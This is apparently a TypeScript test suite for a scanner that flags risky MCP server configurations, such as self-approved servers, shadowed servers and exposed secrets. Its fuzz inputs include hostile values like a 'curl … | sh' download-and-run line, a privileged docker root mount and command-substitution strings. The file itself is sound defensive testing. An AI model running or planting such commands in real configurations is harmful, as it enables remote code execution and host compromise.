import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyze, applyEdits, type ConfigFile, type FileReport, NO_FACTS, NO_POLICY } from '../../src/engine';

const file = (text: string, change: Partial<ConfigFile> = {}): ConfigFile => ({
  uri: 'file:///w/.mcp.json',
  path: '.mcp.json',
  text,
  scope: 'workspace',
  ...change,
});
const scan = (...files: ConfigFile[]): FileReport[] => analyze(files, NO_FACTS, NO_POLICY);
const config = (servers: object): string => JSON.stringify({ mcpServers: servers }, null, 2);

/** Values as hostile and as ordinary configs hold them. */
const word = fc.constantFrom(
  'npx',
  '-y',
  'bash',
  '-c',
  'curl x.example/i.sh | sh',
  'env',
  '-S',
  'cmd',
  '/c',
  'uvx',
  '--from',
  'docker',
  'run',
  '-v',
  '/:/host',
  '--privileged',
  'node',
  '-e',
  '${X}',
  '$(',
  '`',
  '"',
  "'",
  '\\',
  '\u202e',
  '$(zap)',
  '__proto__',
  'constructor',
  'a@b@c',
  '@',
  '@/',
  'http://x.example',
  'git+https://',
  '==',
  '-',
  '--',
  '',
  ' ',
  '\u0000',
  '\n',
  'x'.repeat(5000),
);
const value = fc.oneof(
  word,
  fc.string(),
  fc.constant(null),
  fc.integer(),
  fc.boolean(),
  fc.array(fc.oneof(word, fc.constant({})), { maxLength: 8 }),
);
const key = fc.constantFrom(
  'command',
  'args',
  'env',
  'url',
  'headers',
  'cwd',
  'envFile',
  'disabled',
  'autoApprove',
  'type',
  '__proto__',
);
const entry = fc.oneof(
  fc.dictionary(key, fc.oneof(value, fc.dictionary(fc.string(), value, { maxKeys: 4 })), { maxKeys: 6 }),
  value,
);
const servers = fc.dictionary(fc.oneof(word, fc.string()), entry, { maxKeys: 4 });

describe('analyze', () => {
  it('says of a file that was not fetched where it is', () => {
    const [report] = scan(file('version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 179\n'));
    expect(report?.findings.map(it => [it.severity, it.message])).toEqual([
      ['low', 'Git LFS keeps this file elsewhere: what it sets up was not read'],
    ]);
  });

  it('counts no servers that no client reads when it weighs what a folder approves', () => {
    const text = JSON.stringify({ enabledMcpjsonServers: ['lantern'], mcpServers: { own: { command: './own' } } });
    const [report] = scan(file(text, { uri: 'file:///w/.claude/settings.json', path: '.claude/settings.json' }));
    expect(report?.findings.find(it => it.rule === 'self-approved-servers')?.severity).toBe('high');
  });

  it('never throws, loses no server, and keeps every place inside the text', () => {
    fc.assert(
      fc.property(servers, map => {
        const text = config(map);
        const [report] = scan(file(text));
        expect(report?.servers).toHaveLength(Object.keys(map).length);
        for (const { at, fixes } of report?.findings ?? []) {
          expect(at.start).toBeGreaterThanOrEqual(0);
          expect(at.end).toBeLessThanOrEqual(text.length);
          for (const fix of fixes) applyEdits(text, fix.edits);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('says the same twice', () => {
    fc.assert(
      fc.property(servers, map => {
        expect(scan(file(config(map)))).toEqual(scan(file(config(map))));
      }),
      { numRuns: 50 },
    );
  });

  it('remembers what it made of an entry only as long as it would make the same of it again', () => {
    let fresh = 0;
    fc.assert(
      fc.property(servers, fc.array(fc.nat(30), { minLength: 2, maxLength: 4 }), (map, steps) => {
        for (const path of ['.mcp.json', '.vscode/mcp.json']) {
          for (const step of steps) {
            const grown = { typed: { command: 'x'.repeat(step) }, ...map };
            const text = JSON.stringify(
              { [path === '.mcp.json' ? 'mcpServers' : 'servers']: grown, inputs: [] },
              null,
              2,
            );
            const [remembered] = scan(file(text, { path, uri: 'file:///typed' }));
            const [computed] = scan(file(text, { path, uri: `file:///fresh${fresh++}` }));
            expect({ ...remembered, uri: '' }).toEqual({ ...computed, uri: '' });
          }
        }
      }),
      { numRuns: 60 },
    );
  });

  it('reports a file that could not be read', () => {
    const [report] = scan(file('', { unreadable: 'it is larger than 1 MiB' }));
    expect(report?.unread?.message).toBe('it is larger than 1 MiB');
  });

  it('leaves out files that no client reads', () => {
    expect(scan(file(config({}), { path: 'docs/notes.json' }))).toEqual([]);
  });

  it('lists a file that a link leads to once, as what the link makes of it', () => {
    const text = '{ "servers": { "a": { "command": "node", "args": ["a.js"] } } }';
    const real = { uri: 'file:///config/mcp.json', path: 'config/mcp.json', text, scope: 'workspace' } as const;
    const link = { at: '.vscode', target: 'config', outside: false };
    const path = '.vscode/mcp.json';
    const linked = { ...real, uri: `file:///${path}`, path, facts: { link } };
    const listed = (...files: ConfigFile[]) => scan(...files).map(it => it.path);
    expect(listed(linked, real)).toEqual([path]);
    expect(listed(linked, { ...real, text: `${text} ` })).toEqual([path, real.path]);
    expect(listed(linked, { ...real, path: 'other/mcp.json' })).toEqual([path, 'other/mcp.json']);
  });

  it('says which client refuses a file, and who would load what', () => {
    const [report] = scan(
      file('{ "mcpServers": { "a": { "command": "x" } } } // why', { clients: ['claude-code-project'] }),
    );
    expect(report?.clients).toMatchObject([{ name: 'Claude Code', refuses: 'the file holds comments' }]);
    expect(report?.servers).toMatchObject([{ name: 'a', clients: [] }]);
  });

  it('keeps the fingerprint of a server until it would run something else', () => {
    const print = (server: object) => scan(file(config({ a: server })))[0]?.servers[0]?.fingerprint;
    const server = { command: 'npx', args: ['x@1.0.0'], env: { A: '1', B: '2' } };
    expect(print({ ...server, env: { B: '2', A: '1' } })).toBe(print(server));
    expect(print({ ...server, args: ['x@1.0.1'] })).not.toBe(print(server));
    expect(print({ ...server, env: { A: '1', B: '2', NODE_OPTIONS: '' } })).not.toBe(print(server));
  });

  it('lists a file with several readers once, with all of them', () => {
    const [report, ...others] = scan(file(config({ a: { command: 'x' } })));
    expect(others).toEqual([]);
    expect(report?.clients.map(it => it.name)).toEqual(['Claude Code', 'GitHub Copilot CLI', 'VS Code', 'Warp']);
    expect(report?.servers.map(it => [it.name, it.clients.length])).toEqual([['a', 4]]);
  });

  it('calls a folder that approves its own servers worse where one of them is a stranger', () => {
    const settings = file('{ "enableAllProjectMcpServers": true }', {
      path: '.claude/settings.json',
      uri: 'file:///w/s',
    });
    const known = {
      docs: { command: 'npx', args: ['-y', '@playwright/mcp@0.0.40'] },
      wiki: { url: 'https://mcp.sentry.dev/mcp' },
    };
    const severity = (servers: object) =>
      scan(file(config(servers)), settings)
        .flatMap(it => it.findings)
        .find(it => it.rule === 'self-approved-servers')?.severity;
    expect(severity(known)).toBe('high');
    expect(severity({ ...known, other: { command: 'npx', args: ['-y', 'acme-mcp@1.0.0'] } })).toBe('critical');
    expect(severity({ ...known, other: { command: './run.sh' } })).toBe('critical');
    expect(severity({ ...known, other: { url: 'https://mcp.acme.example/mcp' } })).toBe('critical');
  });

  it('keeps its own words where one of them is somebody’s password', () => {
    const url = 'postgresql://user:pass@db:5432/x';
    const [report] = scan(file(config({ db: { command: 'npx', args: ['-y', 'acme-mcp@1.0.0', url] } })));
    expect(report?.findings.map(it => it.message)).toContainEqual(expect.stringContaining('password that everyone'));
    expect(JSON.stringify(report?.servers)).not.toContain(':pass@');
  });

  it.each([
    ['.vscode/mcp.json', '.mcp.json', 'VS Code'],
    ['.mcp.json', '.github/mcp.json', 'GitHub Copilot CLI'],
    ['.crushrc', 'crush.json', 'Crush'],
    ['.opencode/opencode.json', 'opencode.json', 'OpenCode'],
  ])('knows that %s comes before %s in one folder', (first, second, client) => {
    const at = (path: string, command: string) => {
      const key = /crush|opencode/.test(path) ? 'mcp' : path.includes('.vscode') ? 'servers' : 'mcpServers';
      const text = path.endsWith('rc')
        ? `mcp add wiki --command ${command}`
        : JSON.stringify({ [key]: { wiki: { command } } });
      return file(text, { uri: `file:///p/${path}`, path });
    };
    const reports = analyze([at(first, 'wiki-helper'), at(second, 'other-helper')], NO_FACTS, NO_POLICY);
    const said = reports.flatMap(it => it.findings.filter(one => one.rule === 'server-shadowing'));
    expect(said.map(it => it.message).join()).toContain(`in ${client}`);
    expect(said.map(it => it.message).join()).toMatch(/Replaces|is replaced|never runs/);
  });

  it('holds a folder against the files beside it, and says nothing in those', () => {
    const mine = { uri: 'file:///home/.cursor/mcp.json', path: '~/.cursor/mcp.json', scope: 'user' as const };
    const theirs = file(config({ wiki: { command: 'npx', args: ['wiki-helper@1.0.0'] } }), {
      path: '.cursor/mcp.json',
    });
    const said = (wiki: object) => {
      const beside = analyze([{ ...mine, text: config({ wiki }) }], NO_FACTS, NO_POLICY);
      const reports = analyze([theirs], NO_FACTS, NO_POLICY, { beside });
      expect(reports.map(it => it.path)).toEqual(['.cursor/mcp.json']);
      return reports.flatMap(it => it.findings).filter(it => it.rule === 'server-shadowing');
    };
    const [found] = said({ command: 'npx', args: ['wiki-mcp@1.0.0'] });
    expect(found).toMatchObject({ severity: 'high', related: [{ file: { path: '~/.cursor/mcp.json' } }] });
    expect(said({ command: 'npx', args: ['wiki-helper@1.0.0'] })).toMatchObject([{ severity: 'info' }]);
    expect(said({ command: 'npx', args: ['wiki-mcp@1.0.0'], disabled: true })).toEqual([]);
  });

  it('puts no secret of one file into what it says in another', () => {
    const token = 'ghp_' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8';
    const mine = { uri: 'file:///h/m.json', path: '~/.cursor/mcp.json', scope: 'user' as const };
    const own = config({ [token]: { command: 'npx', args: ['wiki-mcp@1.0.0', token], env: { GITHUB_TOKEN: token } } });
    const beside = analyze([{ ...mine, text: own }], NO_FACTS, NO_POLICY);
    const theirs = config({ [token.toLowerCase()]: { command: 'npx', args: ['wiki-helper@1.0.0'] } });
    const reports = analyze([file(theirs, { path: '.cursor/mcp.json' })], NO_FACTS, NO_POLICY, { beside });
    expect(
      JSON.stringify(reports.map(it => it.findings.map(at => [at.message, at.related.map(r => r.message)]))),
    ).not.toContain(token);
  });
});
